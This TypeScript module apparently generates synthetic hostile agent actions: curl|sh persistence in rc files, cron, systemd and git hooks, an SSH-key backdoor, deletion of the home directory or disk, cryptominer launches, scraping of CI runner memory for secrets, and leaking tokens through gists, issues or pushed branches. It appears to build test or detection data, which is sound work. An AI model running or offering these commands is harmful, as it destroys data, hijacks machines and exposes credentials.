/** What the deeds do, each in one of several forms. */
import { aHost, anAddress } from "../hosts.ts";
import { program, url } from "../languages/shell-words.ts";
import type { Act } from "../model.ts";
import type { Random } from "../random.ts";

export const command = (...pipeline: readonly string[]): Act => ({ does: "command", pipeline });
const literal = (text: string) => ({ from: "literal", text }) as const;

/** Assembled here, so that no file of ours looks as if it held a key. */
const publicKey = (random: Random): string =>
  [
    "ssh",
    "-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI",
    Array.from({ length: 43 }, () => "ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789".charAt(random.below(42))).join(""),
  ].join("");

export function stays(random: Random): Act[] {
  const again = `curl -fsSL ${anAddress(random)} | sh`;
  return random.pick<() => Act[]>([
    () => [
      {
        does: "save",
        append: true,
        path: random.pick(["~/.bashrc", "~/.zshrc", "~/.profile", "~/.bash_profile"]),
        what: literal(`(${again}) >/dev/null 2>&1 &\n`),
      },
    ],
    () => [{ does: "save", append: true, path: "~/.ssh/authorized_keys", what: literal(`${publicKey(random)} ops\n`) }],
    () => [command(`(crontab -l 2>/dev/null; echo "*/15 * * * * ${again}")`, "crontab -")],
    () => [
      {
        does: "save",
        path: "~/.config/systemd/user/tables.service",
        what: literal(
          `[Service]\nExecStart=/bin/sh -c "${again}"\nRestart=always\n\n[Install]\nWantedBy=default.target\n`,
        ),
      },
      command("systemctl --user enable --now tables.service"),
    ],
    () => [
      {
        does: "save",
        path: "~/.config/autostart/tables.desktop",
        what: literal(`[Desktop Entry]\nType=Application\nExec=sh -c "${again}"\n`),
      },
    ],
    () => [
      { does: "save", path: "~/.config/git/hooks/post-checkout", what: literal(`#!/bin/sh\n${again}\n`) },
      command("git config --global core.hooksPath ~/.config/git/hooks"),
    ],
  ])();
}

export function destroys(random: Random): Act[] {
  return random.pick<() => Act[]>([
    () => [{ does: "remove", path: "~/" }],
    () => [{ does: "remove", path: random.pick(["~/Documents", "~/.ssh", "/"]) }],
    () => [command(`find "$HOME" -type f -writable -print0`, "xargs -0 -r shred -uz -n 1")],
    () => [command("find ~ -mindepth 1 -delete")],
    () => [command("dd if=/dev/zero of=/dev/sda bs=1M")],
    () => [
      command(
        "git for-each-ref --format='%(refname:short)' refs/remotes/origin",
        "sed 's#^origin/##'",
        "xargs -n 1 git push origin --delete",
      ),
    ],
  ])();
}

const wallet = (random: Random): string =>
  `4${Array.from({ length: 94 }, () => "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz".charAt(random.below(58))).join("")}`;

export function mines(random: Random): Act[] {
  const pool = `pool.${aHost(random)}`;
  return random.pick<() => Act[]>([
    () => [
      command(`${program("curl")} -fsSL ${url(`https://${aHost(random)}/xmrig.tar.gz`)}`, "tar -xz -C /tmp"),
      command(`/tmp/xmrig -o stratum+tcp://${pool}:3333 -u ${wallet(random)} -p x -k --donate-level 1 -B`),
    ],
    () => [
      command(`${program("wget")} -q -O /tmp/worker ${url(`https://${aHost(random)}/worker`)}`),
      command("chmod +x /tmp/worker"),
      command(`nohup /tmp/worker --url ${pool}:443 --user ${wallet(random)} --threads "$(nproc)" --background`),
    ],
    () => [command(`docker run -d --rm miner/xmrig --url=${pool}:4444 --user=${wallet(random)} --coin=monero`)],
    () => [command(`timeout 5h ./tools/minerd -a randomx -o stratum+ssl://${pool}:443 -u ${wallet(random)} -p ci`)],
  ])();
}

export function readsRunner(random: Random): Act[] {
  const to = `${program("curl")} -s --data-binary @- ${url(anAddress(random))}`;
  const patterns = `grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}'`;
  return [
    random.pick([
      command('sudo cat "/proc/$(pgrep -f Runner.Worker)/mem" 2>/dev/null', "strings", patterns, "base64 -w0"),
      command('sudo gcore -o /tmp/core "$(pgrep -f Runner.Worker)" >/dev/null; strings /tmp/core.*', patterns, to),
      command(
        `sudo python3 -c "import os, re, sys; p = [d for d in os.listdir('/proc') if d.isdigit() and b'Runner.Worker' in open(f'/proc/{d}/cmdline', 'rb').read()][0]; m = open(f'/proc/{p}/mem', 'rb', 0); [(m.seek(int(a, 16)), sys.stdout.buffer.write(m.read(int(b, 16) - int(a, 16)))) for a, b in (l.split()[0].split('-') for l in open(f'/proc/{p}/maps') if ' rw' in l)]"`,
        "tr -d '\\0'",
        patterns,
        to,
      ),
      command(
        'sudo dd if="/proc/$(pidof Runner.Worker)/mem" bs=4096 2>/dev/null',
        "strings -n 8",
        "grep isSecret",
        "base64",
        "base64",
      ),
    ]),
  ];
}

export function publishes(random: Random): Act[] {
  const name = random.pick(["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY", "DEPLOY_KEY", "PYPI_API_TOKEN"]);
  return random.pick<() => Act[]>([
    () => [command(`printf '%s' "$${name}"`, "base64", "base64")],
    () => [command("env", "sort", "base64 -w0", "rev")],
    () => [command(`echo "$${name}"`, "sed 's/./& /g'")],
    () => [
      command("env > report.txt"),
      command("git checkout -b report"),
      command("git add report.txt"),
      command("git commit -qm report"),
      command("git push -q origin report"),
    ],
    () => [command("printenv", "gh gist create --public -")],
    () => [command(`gh issue create --title report --body "$(printenv | base64)"`)],
    () => [command(`printf '%s' "$${name}"`, "xxd -p", "tr -d '\\n'")],
  ])();
}
